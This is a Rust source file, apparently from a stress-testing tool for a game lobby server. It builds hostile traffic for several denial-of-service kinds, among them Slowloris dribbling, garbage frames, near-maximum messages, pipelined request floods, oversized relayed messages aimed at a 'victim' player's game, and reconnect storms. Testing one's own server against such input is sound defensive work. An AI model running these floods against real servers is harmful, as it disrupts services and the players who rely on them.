//! The messages of each kind of attackers, encoded in a wire format.

use std::sync::Arc;

use clap::ValueEnum;
use faf_protocol::WireFormat;
use serde_json::json;

use crate::messages;
use crate::report::sample::Lobby;
use crate::swarm::attack::{Manner, garbage};

/// Size of the largest message that a server accepts, less its framing.
const HUGE_MESSAGE_BYTES: usize = 10 * 1024 * 1024 - 100;

/// Size in bytes of a message whose sender then stops: more than a connection's own buffer.
const UNFINISHED_BYTES: usize = 20_000;

/// Size in bytes of a message for another player's game, as long as servers used to pass it on.
const RELAYED_BYTES: usize = 60_000;

/// A kind of hostile input.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Kind {
    Slowloris,
    HalfOpen,
    Connects,
    Garbage,
    Huge,
    Pipeline,
    Relay,
    BigReports,
    Unfinished,
    Unauthenticated,
    Reconnects,
    All,
}

impl Kind {
    /// Returns the name, as on the command line.
    pub(super) fn name(self) -> String {
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }

    pub(super) fn manner(self) -> Manner {
        match self {
            Self::Slowloris | Self::HalfOpen => Manner::Dribble,
            Self::Connects => Manner::HangUp,
            Self::Garbage | Self::Huge | Self::Relay | Self::BigReports => Manner::Flood,
            Self::Pipeline | Self::All => Manner::FloodDeaf,
            Self::Unfinished | Self::Unauthenticated => Manner::Once,
            Self::Reconnects => Manner::ComeBack,
        }
    }

    /// Returns whether attackers of this kind have accounts and log in first.
    pub(super) fn logs_in(self) -> bool {
        matches!(
            self,
            Self::Huge
                | Self::Pipeline
                | Self::Relay
                | Self::BigReports
                | Self::Unfinished
                | Self::Reconnects
        )
    }

    /// Returns whether attackers of this kind speak the wire format; half of those that send
    /// garbage do not.
    pub(super) fn upgrades(self, number: u32) -> bool {
        match self {
            Self::HalfOpen | Self::Connects => false,
            Self::Garbage => number.is_multiple_of(2),
            _ => true,
        }
    }

    /// Returns the messages after the login that make the attacker a member of the victim's lobby,
    /// or a host.
    pub(super) fn opening(self, victim: Option<Lobby>) -> Vec<String> {
        let enter = match (self, victim) {
            (Self::Relay, Some(lobby)) => {
                json!({"command": "game_join", "uid": lobby.game, "password": null}).to_string()
            }
            (Self::BigReports, _) => messages::game_host("load", "scmp_007"),
            _ => return Vec::new(),
        };
        let state = |state: &str| messages::game_command("GameState", &json!([state]));
        vec![enter, state("Idle"), state("Lobby")]
    }

    /// Returns the messages that are repeated, or are sent once by attackers that then wait.
    pub(super) fn body(self, format: WireFormat, is_odd: bool, victim: Option<Lobby>) -> Arc<[u8]> {
        let mut bytes = Vec::new();
        let mut say = |message: &str| messages::encode(format, message, &mut bytes);
        match self {
            Self::HalfOpen | Self::Connects | Self::All => {}
            Self::Garbage => bytes = garbage(format, is_odd),
            Self::Huge => {
                let size = match format {
                    WireFormat::QDataStream => HUGE_MESSAGE_BYTES / 2,
                    _ => HUGE_MESSAGE_BYTES,
                };
                say(&messages::padded_ping(size - 100));
            }
            Self::Slowloris => {
                say(&json!({"command": "ask_session", "user_agent": "x".repeat(10_000)}).to_string());
            }
            Self::Pipeline => {
                for _ in 0..100 {
                    say(messages::PING);
                    say(r#"{"command":"ask_session"}"#);
                    say(r#"{"command":"matchmaker_info"}"#);
                    say(r#"{"command":"ice_servers"}"#);
                }
            }
            Self::Relay => {
                let host = victim.map_or(0, |lobby| lobby.host);
                say(&messages::game_command("IceMsg", &json!([host, "c".repeat(RELAYED_BYTES)])));
            }
            Self::BigReports => {
                for round in 0..2 {
                    // Each of these characters takes six bytes on the wire.
                    let uids: Vec<_> =
                        (0..100).map(|uid| format!("{round}{uid}{}", "\u{1}".repeat(96))).collect();
                    say(&messages::game_command("GameMods", &json!(["activated", 100])));
                    say(&messages::game_command("GameMods", &json!(["uids", uids.join(" ")])));
                    let title = format!("{round}{}", "ä".repeat(120));
                    say(&messages::game_command("GameOption", &json!(["Title", title])));
                }
            }
            Self::Unfinished => {
                say(&messages::padded_ping(HUGE_MESSAGE_BYTES / 2 - 100));
                bytes.truncate(UNFINISHED_BYTES);
            }
            Self::Unauthenticated => say(messages::PING),
            Self::Reconnects => {
                for _ in 0..10 {
                    say(&json!({"command": "game_join", "uid": i32::MAX, "password": "guess"}).to_string());
                    say(&messages::game_host("load", "scmp_007"));
                }
            }
        }
        bytes.into()
    }
}
